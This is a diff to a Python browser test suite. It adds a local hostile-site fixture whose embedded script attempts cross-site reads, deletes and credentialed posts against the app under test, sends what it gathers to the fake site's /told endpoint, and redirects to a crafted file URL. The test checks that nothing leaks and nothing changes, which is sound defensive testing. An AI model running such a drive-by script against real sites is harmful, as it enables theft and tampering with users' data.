@@ -6,8 +6,11 @@ import json
 import re
 import time
 from collections.abc import Iterator
+from contextlib import contextmanager
 from datetime import UTC, datetime
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 from pathlib import Path
+from threading import Thread
 from typing import Any
 from urllib.parse import urlsplit
 
@@ -517,3 +520,90 @@ def test_nothing_is_asked_of_another_host(browser: Any, sample: str) -> None:
         page.wait_for_timeout(500)
     assert hosts - {None} == {"127.0.0.1"}
     page.context.close()
+
+
+DRIVE_BY = """<!doctype html><meta charset="utf-8"><title>A page of another site</title><script>
+const target = "%(target)s";
+const told = [];
+const tries = [
+  () => fetch(target + "/v1/articles").then((reply) => reply.text()),
+  () => fetch(target + "/v1/articles/%(id)s", {method: "DELETE", mode: "no-cors"}),
+  () => fetch(target + "/v1/articles", {method: "POST", mode: "no-cors", body: new FormData()}),
+  () => fetch(target + "/gradio_api/queue/join", {method: "POST", mode: "no-cors", body: "{}", credentials: "include"}),
+  () => new Promise((resolve, reject) => {
+    const picture = new Image();
+    picture.onload = () => resolve("a picture was read"); picture.onerror = reject;
+    picture.src = target + "/favicon.ico";
+  }),
+  () => new Promise((resolve) => {
+    const frame = document.createElement("iframe");
+    frame.onload = () => { try { resolve(frame.contentDocument.body.innerText); } catch { resolve(""); } };
+    frame.src = target + "/docs";
+    document.documentElement.append(frame);
+  }),
+];
+(async () => {
+  for (const one of tries) {
+    try { const found = await one(); if (typeof found === "string" && found) told.push(found); } catch {}
+  }
+  await fetch("/told", {method: "POST", body: JSON.stringify(told)});
+  location.href = target + "/gradio_api/file=" + location.origin + "/x.png";
+})();
+</script>"""
+
+
+@contextmanager
+def another_site(target: str, article: str) -> Iterator[tuple[str, list[str]]]:
+    """The address of a site that means ill, and what came to it."""
+    came: list[str] = []
+
+    class Site(BaseHTTPRequestHandler):
+        def do_GET(self) -> None:
+            came.append(self.path)
+            link = f'<!doctype html><a href="{target}/">Read on</a>'
+            self._reply((link if self.path == "/link" else DRIVE_BY % {"target": target, "id": article}).encode())
+
+        def do_POST(self) -> None:
+            came.append(f"{self.path} {self.rfile.read(int(self.headers['Content-Length'])).decode()}")
+            self._reply(b"ok")
+
+        def _reply(self, content: bytes) -> None:
+            self.send_response(200)
+            self.send_header("Content-Type", "text/html")
+            self.send_header("Content-Length", str(len(content)))
+            self.end_headers()
+            self.wfile.write(content)
+
+        def log_message(self, format: str, *args: object) -> None:
+            """Nothing."""
+
+    server = ThreadingHTTPServer(("127.0.0.1", 0), Site)
+    Thread(target=server.serve_forever, daemon=True).start()
+    yield f"http://localhost:{server.server_port}", came
+    server.shutdown()
+    server.server_close()
+
+
+@pytest.mark.parametrize("with_keys", [False, True], ids=["by default", "with keys"])
+def test_a_page_of_another_site_reads_and_changes_nothing(browser: Any, tmp_path: Path, with_keys: bool) -> None:
+    secret = keyring(tmp_path / "corpus").add("desk", ["admin"]) if with_keys else ""
+    headers = {"Authorization": f"Bearer {secret}"} if with_keys else {}
+    with serving(tmp_path, "--sample") as url:
+        before = httpx.get(f"{url}/v1/articles", headers=headers).json()
+        page = browser.new_context(locale="en-GB").new_page()
+        if with_keys:
+            page.goto(f"{url}/sign-in")
+            page.get_by_label("Your key").fill(secret)
+            page.keyboard.press("Enter")
+            page.get_by_text("Signed in as desk").wait_for()
+        with another_site(url, before[0]["id"]) as (site, came):
+            page.goto(site)
+            page.wait_for_url(f"{url}/**")
+            assert "The page of another site sent this." in page.locator("body").inner_text()
+            assert [one for one in came if one != "/favicon.ico"] == ["/", "/told []"]
+            page.goto(f"{site}/link")
+            page.get_by_text("Read on").click()
+            page.wait_for_url(f"{url}/")
+            page.get_by_label("Your key" if with_keys else "Question").wait_for()
+        assert httpx.get(f"{url}/v1/articles", headers=headers).json() == before
+        page.context.close()
